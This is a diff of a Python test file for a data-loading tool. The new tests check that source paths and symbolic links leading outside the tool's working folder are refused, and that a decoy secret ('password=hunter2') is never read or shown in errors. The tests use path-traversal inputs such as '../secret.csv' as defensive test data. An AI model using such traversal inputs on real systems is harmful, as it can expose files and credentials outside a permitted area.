@@ -874,9 +1480,10 @@ def test_excel_title_row_above_the_header(tmp_path: Path, capsys) -> None:
     book.save(folder / "actions.xlsx")
     err = _cli_error(folder, capsys)
     assert (
-        "required column 'action_id' of actions is missing (found: Action log, exported 2026-09-30, (empty), (empty)"
-        in err
+        "required column 'action_id' of actions is missing (the first line names none of the columns of actions, "
+        "so it is not shown;" in err
     )
+    assert "Action log" not in err
 
 
 def test_excel_header_below_empty_rows_keeps_spreadsheet_row_numbers(tmp_path: Path) -> None:
@@ -1090,11 +1697,105 @@ def test_symbolic_link_that_leads_nowhere(tmp_path: Path, capsys, target: str) -
     assert err.startswith(f"error: {folder / 'contacts.csv'}: a symbolic link that leads nowhere")
 
 
-def test_symbolic_link_to_a_file_is_followed(tmp_path: Path) -> None:
+def test_symbolic_link_to_a_file_in_the_folder_is_followed_and_recorded_where_it_leads(tmp_path: Path) -> None:
+    folder = write_engagement(tmp_path / "eng", {"exports/interactions.csv": CONTACTS_CSV})
+    (folder / "contacts.csv").symlink_to(folder / "exports" / "interactions.csv")
+    eng = pa.load(folder)
+    assert eng.contacts.collect().height == 3
+    record = lineage(eng)
+    assert [(i["table"], i["file"]) for i in record["inputs"]] == [("contacts", "exports/interactions.csv")]
+
+
+# --- files outside the engagement folder ---------------------------------------------------------
+
+
+@pytest.fixture
+def opened(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
+    """Every path opened through pathlib from the moment the test clears it (readers open files that way)."""
+    paths: list[Path] = []
+    real_open = Path.open
+
+    def recording(self: Path, *args, **kwargs):
+        paths.append(self.resolve())
+        return real_open(self, *args, **kwargs)
+
+    monkeypatch.setattr(Path, "open", recording)
+    return paths
+
+
+def _secret(tmp_path: Path) -> Path:
+    """A file beside the engagement, not in it: a CSV whose first line is a secret."""
+    path = tmp_path / "secret.csv"
+    path.write_text("password=hunter2\n" + CONTACTS_CSV, encoding="utf-8")
+    return path
+
+
+@pytest.mark.parametrize(
+    "given", ["../secret.csv", "exports/../../secret.csv", "ABSOLUTE"], ids=["dotdot", "deep", "abs"]
+)
+def test_sources_path_outside_the_folder_is_refused(tmp_path: Path, capsys, opened: list[Path], given: str) -> None:
+    secret = _secret(tmp_path)
+    given = str(secret) if given == "ABSOLUTE" else given
+    folder = write_engagement(tmp_path / "eng", {}, contract(sources={"contacts": {"path": given}}))
+    opened.clear()
+    err = _cli_error(folder, capsys)
+    assert err == (
+        f"error: {folder / 'contract.yaml'}: sources.contacts.path: {given!r} leads outside the engagement folder "
+        f"(it resolves to {str(secret)!r}): files outside {folder} are not read; move the file into the folder, "
+        "or allow it (--allow-outside; load(..., allow_outside=True))"
+    )
+    assert "hunter2" not in err and secret not in opened
+
+
+def test_symbolic_link_leading_outside_is_refused(tmp_path: Path, capsys, opened: list[Path]) -> None:
+    secret = _secret(tmp_path)
     folder = write_engagement(tmp_path / "eng", {})
+    (folder / "contacts.csv").symlink_to(secret)
+    opened.clear()
+    err = _cli_error(folder, capsys)
+    assert err.startswith(
+        f"error: {folder / 'contacts.csv'}: a symbolic link leading outside the engagement folder "
+        f"(it resolves to {str(secret)!r}): files outside {folder} are not read"
+    )
+    assert secret not in opened
+
+
+def test_sources_path_through_a_linked_folder_leading_outside_is_refused(tmp_path: Path, capsys) -> None:
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "elsewhere" / "interactions.csv").write_text(CONTACTS_CSV, encoding="utf-8")
+    folder = write_engagement(
+        tmp_path / "eng", {}, contract(sources={"contacts": {"path": "exports/interactions.csv"}})
+    )
+    (folder / "exports").symlink_to(tmp_path / "elsewhere")
+    err = _cli_error(folder, capsys)
+    assert err.startswith(
+        f"error: {folder / 'contract.yaml'}: sources.contacts.path: 'exports/interactions.csv' leads outside "
+        f"the engagement folder (it resolves to {str(tmp_path / 'elsewhere' / 'interactions.csv')!r})"
+    )
+
+
+def test_contract_linked_from_outside_is_refused(tmp_path: Path, capsys) -> None:
+    (tmp_path / "shared.yaml").write_text(yaml.safe_dump(contract()), encoding="utf-8")
+    folder = tmp_path / "eng"
+    folder.mkdir()
+    (folder / "contacts.csv").write_text(CONTACTS_CSV, encoding="utf-8")
+    (folder / "contract.yaml").symlink_to(tmp_path / "shared.yaml")
+    err = _cli_error(folder, capsys)
+    assert err.startswith(f"error: {folder / 'contract.yaml'}: a symbolic link leading outside the engagement folder")
+
+
+def test_files_outside_read_when_allowed_and_recorded_where_they_are(tmp_path: Path, capsys) -> None:
     (tmp_path / "shared.csv").write_text(CONTACTS_CSV, encoding="utf-8")
-    (folder / "contacts.csv").symlink_to(tmp_path / "shared.csv")
-    assert pa.load(folder).contacts.collect().height == 3
+    folder = write_engagement(tmp_path / "eng", {}, contract(sources={"contacts": {"path": "../shared.csv"}}))
+    eng = pa.load(folder, allow_outside=True)
+    assert sorted(eng.contacts.collect()["contact_id"].to_list()) == VALID_IDS
+    assert [i["file"] for i in lineage(eng)["inputs"]] == [str(tmp_path / "shared.csv")]
+    assert main(["check", "--engagement", str(folder), "--allow-outside"]) == 0
+    out = tmp_path / "tables"
+    assert main(["tables", "--engagement", str(folder), "--allow-outside", "--out", str(out)]) == 0
+    capsys.readouterr()
+    record = json.loads((out / "lineage.json").read_text())
+    assert record["inputs"][0]["file"] == str(tmp_path / "shared.csv")
 
 
 @pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root reads files whatever their permissions")
